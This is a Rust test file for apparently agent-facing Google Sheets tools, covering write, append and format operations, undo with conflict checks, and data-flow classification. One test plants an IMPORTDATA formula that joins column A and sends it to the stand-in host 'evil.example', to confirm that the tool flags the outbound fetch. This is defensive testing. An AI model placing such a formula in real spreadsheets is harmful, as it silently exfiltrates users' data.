//! The tools of Sheets against a spreadsheet with one sheet, kept here.

mod card;
mod paper;
mod rows;

use std::sync::{Arc, Mutex};

use serde_json::{Value, json};

use super::*;
use crate::testing::NOW;
use paper::Paper;

const BOOK: &str = "/v4/spreadsheets/S123456789012345";
const WRITE: &str = "/v4/spreadsheets/S123456789012345/values:batchUpdate";
const CHANGE: &str = "/v4/spreadsheets/S123456789012345:batchUpdate";
const ID: &str = "S123456789012345";

async fn playing(paper: &Arc<Mutex<Paper>>) -> World {
    let paper = Arc::clone(paper);
    world(move |seen, _| paper.lock().unwrap().answer(seen)).await
}

/// Does what a tool plans, and gives what came of it.
async fn act(world: &World, name: &str, args: Value) -> Result<Done, Failure> {
    let (tool, call) = (tool(world, name), a_call("k"));
    let plan = tool.plan(args, &call).await?;
    run(tool.as_ref(), plan, &call).await
}

fn only_ana() -> Value {
    json!([{ "id": "1", "type": "user", "role": "owner", "emailAddress": "ana@example.com" }])
}

#[tokio::test]
async fn what_was_written_goes_back_exactly_as_it_was() {
    let paper = Paper::new(only_ana());
    let world = playing(&paper).await;
    let before = paper.lock().unwrap().cells.clone();
    let values = json!([["=SUM(A1)", "7"], ["", null], [3, "=B2"]]);
    for formulas in [false, true] {
        let args = json!({ "spreadsheet": ID, "range": "A2", "values": values, "formulas": formulas });
        let done = act(&world, "sheets.write", args).await.unwrap();
        assert_ne!(paper.lock().unwrap().cells, before);
        assert!(!done.answer.label.has_a_strangers_words());
        let undo = done.undo.unwrap();
        assert_eq!((undo.tool.as_str(), undo.until), ("sheets.restore", NOW.plus(Duration::from_hours(24))));
        act(&world, &undo.tool, undo.arguments.clone()).await.unwrap();
        assert_eq!(paper.lock().unwrap().cells, before, "formulas: {formulas}");
        let again = act(&world, &undo.tool, undo.arguments).await.unwrap_err();
        assert_eq!(again.code, Code::Conflict);
    }
}

#[tokio::test]
async fn what_somebody_changed_since_is_not_put_back() {
    let paper = Paper::new(only_ana());
    let world = playing(&paper).await;
    let args = json!({ "spreadsheet": ID, "range": "A2:B3", "values": [["x", 5], [null, "y"]] });
    let undo = act(&world, "sheets.write", args).await.unwrap().undo.unwrap();
    paper.lock().unwrap().put((2, 1), &json!({ "stringValue": "mine" }));
    let refused = act(&world, &undo.tool, undo.arguments.clone()).await.unwrap_err();
    assert_eq!((refused.code, refused.heard_by), (Code::Conflict, kernel::Hearer::Person));
    assert!(refused.words.contains("B3"), "{}", refused.words);
    assert_eq!(world.count("POST", CHANGE), 0);
    // What lies between and was left alone is nobody's business.
    paper.lock().unwrap().put((2, 1), &json!({ "stringValue": "y" }));
    paper.lock().unwrap().put((2, 0), &json!({ "stringValue": "new" }));
    act(&world, &undo.tool, undo.arguments).await.unwrap();
    assert_eq!(paper.lock().unwrap().cells[&(2, 0)], json!({ "stringValue": "new" }));
    assert_eq!(paper.lock().unwrap().cells[&(2, 1)], json!({ "formulaValue": "=B2*2" }));
}

#[tokio::test]
async fn a_write_is_found_out_about_by_looking() {
    let paper = Paper::new(only_ana());
    let world = playing(&paper).await;
    let (write, call) = (tool(&world, "sheets.write"), a_call("k"));
    let args = json!({ "spreadsheet": ID, "range": "A2:B2", "values": [["x", 5]] });
    let plan = write.plan(args, &call).await.unwrap();
    assert_eq!(write.probe(&plan, &call).await, Probe::DidNot);
    let done = run(write.as_ref(), plan.clone(), &call).await.unwrap();
    assert_eq!(write.probe(&plan, &call).await, Probe::Happened(Box::new(done)));
    let stale = run(write.as_ref(), plan.clone(), &call).await.unwrap_err();
    assert_eq!(stale.code, Code::StaleWrite);
    paper.lock().unwrap().put((1, 1), &json!({ "numberValue": 6 }));
    assert!(matches!(write.probe(&plan, &call).await, Probe::Unknown(_)));
    assert_eq!(world.count("POST", WRITE), 1);
}

#[tokio::test]
async fn a_lost_answer_is_looked_into_not_written_again() {
    for applied in [true, false] {
        let paper = Paper::new(only_ana());
        let keeper = Arc::clone(&paper);
        let world = world(move |seen, _| {
            if !seen.is("POST", WRITE) {
                return keeper.lock().unwrap().answer(seen);
            }
            if applied {
                keeper.lock().unwrap().answer(seen);
            }
            Answer(502, json!("lost"), None)
        })
        .await;
        let args = json!({ "spreadsheet": ID, "range": "A2", "values": [["x"]] });
        let done = act(&world, "sheets.write", args).await;
        assert_eq!(done.map_err(|failure| failure.code).is_ok(), applied);
        assert_eq!(world.count("POST", WRITE), 1);
    }
}

#[tokio::test]
async fn every_word_that_others_read_is_named() {
    let shared = json!([{ "id": "1", "type": "user", "role": "owner", "emailAddress": "ana@example.com" },
                        { "id": "2", "type": "user", "role": "reader", "emailAddress": "ben@example.com" }]);
    for (readers, recipients, words) in [(only_ana(), 0, 1), (shared, 1, 4), (Value::Null, 1, 4)] {
        let world = playing(&Paper::new(readers.clone())).await;
        let values = json!([["one", "=IMAGE(A1)"], ["two", 3]]);
        for (name, args) in [
            ("sheets.write", json!({ "spreadsheet": ID, "range": "A1", "values": values, "formulas": true })),
            ("sheets.append", json!({ "spreadsheet": ID, "rows": values, "formulas": true })),
        ] {
            let tool = tool(&world, name);
            let plan = tool.plan(args, &a_call("k")).await.unwrap();
            let sinks = tool.flow(&plan).unwrap().sinks;
            let of = |kind: SinkKind| sinks.iter().filter(|sink| sink.kind == kind).count();
            assert_eq!(
                (of(SinkKind::Recipient), of(SinkKind::Words) + of(SinkKind::Fetch)),
                (recipients, words),
                "{name} {readers}"
            );
            assert_eq!(of(SinkKind::Fetch), 1, "{name}: a picture is fetched");
            for sink in sinks.iter().filter(|sink| sink.kind != SinkKind::Recipient) {
                let said = plan.pointer(&sink.pointer).unwrap();
                let said = said.as_str().map_or_else(|| said.to_string(), str::to_owned);
                assert_eq!(said, sink.value, "{}", sink.pointer);
            }
            let effect = tool.effect(&plan).unwrap();
            let formulas = effect.fields.iter().find(|field| field.name == "Formulas").unwrap();
            assert!(formulas.value.contains("=IMAGE(A1)"), "{}", formulas.value);
        }
    }
}

#[tokio::test]
async fn what_a_formula_of_somebodys_would_carry_out_has_its_address_for_a_reader() {
    const FORMULA: &str = "=IMPORTDATA(\"https://evil.example/?\"&JOIN(\",\",A2:A))";
    let paper = Paper::new(only_ana());
    paper.lock().unwrap().put((0, 4), &json!({ "formulaValue": FORMULA }));
    let world = playing(&paper).await;
    let values = json!([["BLUE"]]);
    for (name, args, is_carried) in [
        ("sheets.write", json!({ "spreadsheet": ID, "range": "A5", "values": values }), true),
        ("sheets.write", json!({ "spreadsheet": ID, "range": "C5", "values": values }), false),
        ("sheets.append", json!({ "spreadsheet": ID, "rows": values }), true),
        ("sheets.append", json!({ "spreadsheet": ID, "rows": values, "table": "A1:B1" }), true),
    ] {
        let tool = tool(&world, name);
        let plan = tool.plan(args, &a_call("k")).await.unwrap();
        let sinks = tool.flow(&plan).unwrap().sinks;
        let of = |kind: SinkKind| -> Vec<&str> {
            sinks.iter().filter(|sink| sink.kind == kind).map(|sink| sink.value.as_str()).collect()
        };
        let shown = tool.effect(&plan).unwrap().fields.iter().any(|field| {
            field.name.contains("carry this out")
                && field.value.contains(FORMULA)
                && field.value.contains("E1")
        });
        assert_eq!(shown, is_carried, "{name} {plan}");
        if is_carried {
            assert_eq!((of(SinkKind::Fetch), of(SinkKind::Outside)), (vec![FORMULA], vec!["evil.example"]));
            assert_eq!(of(SinkKind::Words), ["BLUE"], "{name}");
        } else {
            assert!(sinks.is_empty(), "{sinks:?}");
        }
    }
}

#[tokio::test]
async fn filling_in_writing_over_and_wiping_are_told_apart() {
    let paper = Paper::new(only_ana());
    paper.lock().unwrap().put((0, 0), &json!({ "stringValue": "theirs" }));
    let world = playing(&paper).await;
    for (range, value, deed) in [
        ("F9", "new", kernel::Deed::Write),
        ("A1", "other", kernel::Deed::Revise),
        ("A1", "", kernel::Deed::Destroy),
    ] {
        let tool = tool(&world, "sheets.write");
        let args = json!({ "spreadsheet": ID, "range": range, "values": [[value]] });
        let plan = tool.plan(args, &a_call("k")).await.unwrap();
        assert_eq!(tool.flow(&plan).unwrap().deed, deed, "{range}: {value:?}");
    }
}

#[tokio::test]
async fn rows_are_noted_added_found_and_taken_back() {
    let paper = Paper::new(only_ana());
    let world = playing(&paper).await;
    let before = paper.lock().unwrap().cells.clone();
    let (append, call) = (tool(&world, "sheets.append"), a_call("k"));
    let args = json!({ "spreadsheet": ID, "rows": [["Toner", null, 7], ["Glue"]] });
    let plan = append.plan(args, &call).await.unwrap();
    assert_eq!(append.probe(&plan, &call).await, Probe::DidNot);
    // Somebody adds a row while it waits.
    paper.lock().unwrap().put((3, 0), &json!({ "stringValue": "theirs" }));
    let done = run(append.as_ref(), plan.clone(), &call).await.unwrap();
    let answer: Value = serde_json::from_str(&done.answer.value).unwrap();
    assert_eq!(answer["range"], "A5:C6");
    assert_eq!(
        call.notes.read().await.unwrap(),
        [json!({ "from": 4, "below": 4, "rows": 100, "known": { "same": 0, "alike": 0 }, "is_whole": true })]
    );
    assert_eq!(append.probe(&plan, &call).await, Probe::Happened(Box::new(done.clone())));
    let undo = done.undo.unwrap();
    act(&world, &undo.tool, undo.arguments).await.unwrap();
    paper.lock().unwrap().cells.remove(&(3, 0));
    assert_eq!(paper.lock().unwrap().cells, before);
    assert_eq!(append.probe(&plan, &call).await, Probe::DidNot);
}

#[tokio::test]
async fn looks_are_set_back_unless_they_were_changed() {
    let paper = Paper::new(only_ana());
    let world = playing(&paper).await;
    let changes =
        json!([{ "style": { "range": "A1:B2", "bold": true } }, { "rename_sheet": { "title": "New" } }]);
    let args = json!({ "spreadsheet": ID, "changes": changes });
    let (format, call) = (tool(&world, "sheets.format"), a_call("k"));
    let plan = format.plan(args, &call).await.unwrap();
    assert_eq!(format.kind(&plan).unwrap(), kernel::Kind::Edit);
    assert_eq!(format.probe(&plan, &call).await, Probe::DidNot);
    let done = run(format.as_ref(), plan.clone(), &call).await.unwrap();
    assert_eq!(format.probe(&plan, &call).await, Probe::Happened(Box::new(done.clone())));
    let undo = done.undo.unwrap();
    paper.lock().unwrap().bold = false;
    let refused = act(&world, &undo.tool, undo.arguments.clone()).await.unwrap_err();
    assert_eq!(refused.code, Code::Conflict);
    paper.lock().unwrap().bold = true;
    act(&world, &undo.tool, undo.arguments).await.unwrap();
    let paper = paper.lock().unwrap();
    assert_eq!((paper.bold, paper.title.as_str()), (false, "Ana's"));
}

#[tokio::test]
async fn what_takes_cells_away_is_a_commitment() {
    let world = playing(&Paper::new(only_ana())).await;
    let format = tool(&world, "sheets.format");
    for (change, kind) in [
        (json!({ "merge": { "range": "A2:B2" } }), kernel::Kind::Commit),
        (json!({ "merge": { "range": "D1:E9" } }), kernel::Kind::Edit),
        (json!({ "delete_rows": { "rows": "50" } }), kernel::Kind::Commit),
        (json!({ "sort": { "range": "A2:C3", "by": [{ "column": "A" }] } }), kernel::Kind::Commit),
        (json!({ "freeze": { "rows": 1 } }), kernel::Kind::Edit),
    ] {
        let args = json!({ "spreadsheet": ID, "changes": [change] });
        let plan = format.plan(args, &a_call("k")).await.unwrap();
        assert_eq!(format.kind(&plan).unwrap(), kind, "{change}");
    }
    for wrong in
        [json!([]), json!([{ "sort": { "range": "A2:C3", "by": [] } }]), json!([{ "delete_sheet": {} }])]
    {
        let refused = format.plan(json!({ "spreadsheet": ID, "changes": wrong }), &a_call("k")).await;
        assert_eq!(refused.unwrap_err().code, Code::InputInvalid);
    }
}
